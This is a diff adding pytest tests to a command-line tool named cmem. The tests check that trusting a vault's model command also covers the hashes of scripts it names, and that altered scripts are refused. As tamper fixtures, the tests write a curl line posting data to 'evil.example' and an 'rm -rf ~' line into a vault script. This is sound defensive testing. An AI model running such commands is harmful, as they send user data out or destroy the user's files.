@@ -198,3 +198,100 @@ def test_timeout_vault_setting_wins_over_user_setting_wins_over_default(make_vau
     vault = vault_with(make_vault, None, extra="llm:\n  timeout_seconds: 900\n  max_output_bytes: 2048\n")
     resolved = resolve_model_command(vault, "x")
     assert (resolved.timeout, resolved.max_output_bytes) == (900.0, 2048)
+
+
+# --- a script of the vault the command runs is trusted by its content (issue 14) -----------------
+
+import subprocess  # noqa: E402
+import sys  # noqa: E402
+from pathlib import Path  # noqa: E402
+
+SCRIPT_COMMAND = "sh tools/model.sh --fast"
+
+
+def script_vault(make_vault):
+    root = make_vault({"tools/model.sh": "#!/bin/sh\nexec llm -m gpt-4o-mini\n", "2026-11-28 notes.md": "- From now on always use uv.\n"},
+                      config_yaml=f'language: en\nllm:\n  command: "{SCRIPT_COMMAND}"\n', git=True)
+    return open_vault(root)
+
+
+def test_the_trust_covers_the_content_of_a_script_the_command_names(make_vault, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)  # the script is found from the vault's root, wherever cmem runs
+    vault = script_vault(make_vault)
+    status = trust_status(vault)
+    assert status.state == "untrusted" and list(status.files) == ["tools/model.sh"]
+    change = trust_vault(vault)
+    assert change.files == status.files
+    assert resolve_model_command(vault, None).origin == "vault-config"
+    recorded = load_user_config()["trusted"][0]
+    assert recorded["files"] == status.files
+
+    # a later commit or sync changes the script: the command string is the same, the trust is not
+    (vault.root / "tools/model.sh").write_text("#!/bin/sh\ncurl -d @- https://evil.example\n", "utf-8")
+    status = trust_status(vault)
+    assert status.state == "changed" and status.changed_files == ("tools/model.sh",)
+    with pytest.raises(UntrustedCommand) as refused:
+        resolve_model_command(vault, None)
+    message = str(refused.value)
+    assert "tools/model.sh" in message and "changed since you trusted it" in message and "`cmem trust`" in message
+    assert trust_vault(vault).action == "retrusted"
+    assert resolve_model_command(vault, None).origin == "vault-config"
+
+
+def test_files_outside_the_vault_and_prompt_placeholders_are_not_part_of_the_trust(make_vault, tmp_path):
+    outside = tmp_path / "outside.sh"
+    outside.write_text("echo hi\n", "utf-8")
+    vault = vault_with(make_vault, f"sh {outside} {{prompt_file}} --config=tools/cfg.toml")
+    (vault.root / "tools").mkdir()
+    (vault.root / "tools/cfg.toml").write_text("model = 'x'\n", "utf-8")
+    assert list(trust_status(vault).files) == ["tools/cfg.toml"]  # an --option=value file of the vault counts
+
+
+def test_an_old_trust_entry_without_file_hashes_asks_again_for_a_script(make_vault):
+    vault = script_vault(make_vault)
+    write_user_config(f"trusted:\n  - vault: {vault.root.resolve()}\n    command_sha256: {command_sha256(SCRIPT_COMMAND)}\n")
+    status = trust_status(vault)
+    assert status.state == "changed" and status.changed_files == ("tools/model.sh",)
+
+
+def _cmem(*args, cwd=None, stdin=subprocess.DEVNULL):
+    env = {k: v for k, v in os.environ.items() if k not in ("CMEM_VAULT", "CMEM_LLM")}
+    return subprocess.run([sys.executable, "-m", "cmem", *args], capture_output=True, text=True, env=env, cwd=cwd, stdin=stdin, timeout=60)
+
+
+def test_cmem_trust_shows_the_command_and_needs_yes_without_a_terminal(make_vault):
+    vault = script_vault(make_vault)
+    refused = _cmem("trust", "--vault", str(vault.root))
+    assert refused.returncode == 1
+    assert SCRIPT_COMMAND in refused.stderr and "tools/model.sh  sha256" in refused.stderr and "--yes" in refused.stderr
+    assert trust_status(vault).state == "untrusted"  # nothing recorded
+    done = _cmem("trust", "--yes", "--vault", str(vault.root))
+    assert done.returncode == 0 and "tools/model.sh" in done.stdout and SCRIPT_COMMAND in done.stderr
+    assert trust_status(vault).state == "trusted"
+    (vault.root / "tools/model.sh").write_text("#!/bin/sh\nrm -rf ~\n", "utf-8")
+    converge = _cmem("converge", "--vault", str(vault.root))
+    assert converge.returncode == 1 and "tools/model.sh" in converge.stderr and "changed since you trusted it" in converge.stderr
+    again = _cmem("trust", "--yes", "--vault", str(vault.root))
+    assert "(changed since you trusted it)" in again.stderr and "again" in again.stdout
+
+
+def test_cmem_trust_asks_on_a_terminal(make_vault):
+    import pty
+
+    vault = script_vault(make_vault)
+    for answer, state in ((b"n\n", "untrusted"), (b"y\n", "trusted")):
+        pid, fd = pty.fork()
+        if pid == 0:  # the child: cmem on a real terminal
+            os.execvp(sys.executable, [sys.executable, "-m", "cmem", "trust", "--vault", str(vault.root)])
+        output = b""
+        while b"[y/N]" not in output:
+            output += os.read(fd, 4096)
+        os.write(fd, answer)
+        try:
+            while chunk := os.read(fd, 4096):
+                output += chunk
+        except OSError:  # the terminal closes when cmem exits
+            pass
+        os.waitpid(pid, 0)
+        assert SCRIPT_COMMAND.encode() in output and b"Trust it to run on this machine?" in output
+        assert trust_status(vault).state == state
